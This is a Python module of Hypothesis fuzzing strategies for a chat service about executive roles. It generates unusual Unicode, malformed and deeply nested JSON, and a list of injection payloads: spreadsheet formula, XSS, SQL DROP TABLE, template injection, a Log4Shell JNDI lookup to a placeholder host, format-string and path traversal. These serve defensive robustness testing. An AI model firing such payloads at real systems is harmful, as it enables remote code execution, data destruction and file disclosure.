"""Texts and JSON that nobody types."""

import json
from typing import Any, TypeVar

from hypothesis import strategies as st

TEXTS = [
    "", " ", "　", "\x00", "\x1b[31m", "\ud800", "\udfff\ud800", "\u202e", "\ufeff",
    "\u200d" * 100, "𩸽", "👨‍👩‍👧‍👦", "が", "が", "ﾊﾟ", "Ａ" * 200, "あ" * 600, "CCO" * 700,
    "?" * 2000, "/restart", '/ask_tasks{"role": "CFO"}', "/session_start",
    "＝cmd|' /C calc'!A0", "<script>alert(1)</script>", "'; DROP TABLE events; --", "{{7*7}}",
    "${jndi:ldap://x.invalid/a}", "%s%n%x", "../../etc/passwd", "ＣＣＯとＣＥＯの違いは？",
    "CCOとは", "じゃあCOOは?", "その役割は?", "3つ目を詳しく", "全員の違い", "年収は?",
    "CCO、CEO、COO、CFO、CTO" * 20, "の" * 500, "と" * 500, "\n" * 500, "違い" * 200,
    "CCO/CEO" * 60, "ﷺ" * 300,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞", "１" * 300,
    "Ⅷ㈱㍿㌖①", "ｶﾞｷﾞ" * 100,
]  # fmt: skip
ODD_BODIES = [
    b"", b"null", b"NaN", b"\xff\xfe", b"\xef\xbb\xbf{}", b'"', b"1" * 5000, b"-", b"x" * 20_000,
    b"[" + b"1," * 7000, b'{"id":"1","id":"2","text":"CCO"}', "{}".encode("utf-16"), b"{" * 70_000,
]  # fmt: skip
NUMBERS = [0, -1, 10**40, 1.5, float("nan"), float("inf"), -float("inf"), 1e308, True, None]


Drawn = TypeVar("Drawn")


def mostly(
    usual: st.SearchStrategy[Drawn], odd: st.SearchStrategy[Drawn], percent: int = 80
) -> st.SearchStrategy[Drawn]:
    """Return the usual in so many percent of the cases: `one_of` would weigh both alike."""
    return st.integers(1, 100).flatmap(lambda number: usual if number <= percent else odd)


def texts() -> st.SearchStrategy[str]:
    """Return texts of any characters, halves of pairs included."""
    any_text = st.text(st.characters(codec=None), max_size=60)
    return st.one_of(st.sampled_from(TEXTS), any_text, st.builds(str.__add__, any_text, any_text))


def values() -> st.SearchStrategy[Any]:
    """Return JSON data of any kind."""
    leaf = st.one_of(st.sampled_from(NUMBERS), texts(), st.integers())
    return st.recursive(
        leaf,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
        ),
        max_leaves=8,
    )


def bodies(data: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    """Return the data as JSON, or what is not quite JSON, or too much of it."""
    whole = data.map(lambda value: json.dumps(value).encode())
    # Characters as they are, where that is possible.
    plain = data.map(
        lambda value: json.dumps(value, ensure_ascii=False).encode(errors="surrogatepass")
    )
    cut = st.builds(lambda body, at: body[: int(len(body) * at)], whole, st.floats(0, 1))
    deep = st.sampled_from([10, 1000, 7000]).flatmap(
        lambda depth: st.sampled_from(
            [
                b"[" * depth,
                b'{"a":' * depth,
                b"[" * depth + b"]" * depth,
                b'{"id":"1","text":' * 900,
            ]
        )
    )
    odd = st.sampled_from(ODD_BODIES)
    broken = st.one_of(cut, deep, odd, st.binary(max_size=100))
    return mostly(mostly(whole, plain), broken)
